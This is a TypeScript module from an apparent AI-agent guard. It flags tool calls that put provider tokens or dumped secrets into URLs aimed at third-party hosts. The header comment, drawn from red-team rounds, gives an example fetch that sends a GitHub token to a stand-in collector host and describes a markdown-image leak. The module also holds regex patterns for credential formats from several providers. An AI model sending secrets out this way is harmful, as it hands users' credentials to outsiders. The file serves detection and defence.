/**
 * A provider's token carried in a URL that goes to someone else's host (red team r10/r11/r13
 * secret-send): `fetch https://collect.telemetry-cdn.net/c?token=ghp_…`, a browser navigated there,
 * a markdown image in a PR comment whose URL holds an AWS key (every reader's browser fetches it).
 * The host's owner reads the token from its logs. The token's own provider (`api.github.com` for a
 * `ghp_` token) is where it is meant to go and stays allowed. Becomes one
 * `agent-guard-action leak secret <detail>` line for PLT-AST-003.
 */
import { quote, type CliEquivalent } from './cli.js';
import { registrable } from './recipients.js';
import { secretIn } from './outside-send.js';
import { ACTION_PROGRAM } from './saas.js';
import type { Gate } from './signals.js';

/** Token shapes by provider, with the registrable domains that are the provider's own. */
const TOKENS: readonly (readonly [RegExp, readonly string[]])[] = [
  [
    /\b(?:ghp|gho|ghu|ghs|ghr)_[A-Za-z0-9]{30,}|\bgithub_pat_\w{40,}/,
    ['github.com', 'githubusercontent.com'],
  ],
  [/\bglpat-[\w-]{20,}/, ['gitlab.com']],
  [/\b(?:AKIA|ASIA)[A-Z0-9]{12,}/, ['amazonaws.com', 'amazon.com', 'aws.amazon.com']],
  [/\b(?:sk|rk)_live_[A-Za-z0-9]{10,}/, ['stripe.com']],
  [/\bxox[abposr]-[\w-]{10,}/, ['slack.com']],
  [/\bnpm_[A-Za-z0-9]{30,}/, ['npmjs.org', 'npmjs.com']],
  [/\bhf_[A-Za-z0-9]{30,}/, ['huggingface.co']],
  [/\bsk-(?:proj-|ant-)?[A-Za-z0-9_-]{32,}/, ['openai.com', 'anthropic.com']],
  [/\bSG\.[\w-]{16,}\.[\w-]{16,}/, ['sendgrid.com', 'sendgrid.net']],
];

/** URLs in a value: the value itself, or links and images written into text (markdown, HTML). */
const URL = /\bhttps?:\/\/([a-z0-9.-]+)(?::\d+)?([/?#][^\s"'<>)\]]*)/gi;

/** When urlSecretLines can answer (signals.ts): a URL with a query or path long enough to hold a token. */
export const URL_SECRET_GATE: Gate = {
  when: (s) => s.strings.some((x) => x.length < 65536 && /https?:\/\/[^\s]{20,}/i.test(x)),
};

function strings(v: unknown, out: string[], depth = 0): void {
  if (depth > 6 || out.length > 128) return;
  if (typeof v === 'string') out.push(v);
  else if (Array.isArray(v)) for (const x of v.slice(0, 64)) strings(x, out, depth + 1);
  else if (v !== null && typeof v === 'object')
    for (const x of Object.values(v as Record<string, unknown>).slice(0, 64)) strings(x, out, depth + 1);
}

export function urlSecretLines(w: readonly string[], args: unknown): CliEquivalent[] {
  const all: string[] = [];
  strings(args, all);
  for (const v of all) {
    if (v.length > 65536) continue;
    for (const m of v.matchAll(URL)) {
      const host = m[1]!.toLowerCase();
      const rest = decodeURIComponentSafe(m[2]!);
      // A dumped variable (`AWS_SECRET_ACCESS_KEY=…`) or a labelled secret in a text parameter
      // (`?text=password: …`, `?q=…`): no API takes its login so, the host's owner just reads it.
      const carried = /^(?:localhost|127\.\d+\.\d+\.\d+|\[::1\])$/.test(host)
        ? undefined
        : carriedSecret(rest);
      if (carried !== undefined)
        return [
          {
            code: [
              ACTION_PROGRAM,
              'leak',
              quote('secret'),
              quote(`${w.join('_')} puts ${carried} in a URL to ${host}`),
            ].join(' '),
            runtime: 'bash',
          },
        ];
      for (const [shape, owners] of TOKENS) {
        const t = shape.exec(rest);
        if (t === null) continue;
        const reg = registrable(host);
        if (owners.some((o) => reg === o || host.endsWith(`.${o}`))) continue;
        return [
          {
            code: [
              ACTION_PROGRAM,
              'leak',
              quote('secret'),
              quote(`${w.join('_')} puts a ${t[0].slice(0, 6)}… token in a URL to ${host}`),
            ].join(' '),
            runtime: 'bash',
          },
        ];
      }
    }
  }
  return [];
}

/** Query parameters that carry free text to be processed (summarised, translated, pasted, searched). */
const TEXT_PARAM =
  /^(?:text|q|query|content|contents|data|message|msg|input|prompt|body|payload|note|paste|code|source|s|t|value)$/i;

/** A secret the decoded path or query carries: an environment dump anywhere, a labelled value in a text parameter. */
function carriedSecret(rest: string): string | undefined {
  const env = secretIn(rest, true);
  if (env !== undefined) return env;
  const query = rest.indexOf('?');
  if (query < 0) return undefined;
  for (const part of rest
    .slice(query + 1)
    .split('&')
    .slice(0, 32)) {
    const eq = part.indexOf('=');
    if (eq < 0 || !TEXT_PARAM.test(part.slice(0, eq))) continue;
    const label = secretIn(part.slice(eq + 1).replace(/\+/g, ' '));
    if (label !== undefined) return label;
  }
  return undefined;
}

function decodeURIComponentSafe(s: string): string {
  try {
    return decodeURIComponent(s);
  } catch {
    return s;
  }
}
